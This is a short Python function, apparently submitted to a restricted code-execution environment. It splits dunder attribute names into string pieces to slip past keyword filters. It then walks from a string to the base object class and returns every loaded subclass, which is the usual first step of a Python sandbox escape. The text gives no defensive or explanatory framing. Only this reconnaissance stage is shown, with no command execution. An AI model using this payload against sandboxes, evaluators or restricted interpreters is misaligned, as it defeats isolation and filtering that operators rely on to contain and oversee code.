def execute(input):
    cls = getattr("", "__cl" + "ass__")
    base = getattr(cls, "__ba" + "se__")
    return str(getattr(base, "__subcl" + "asses__")())
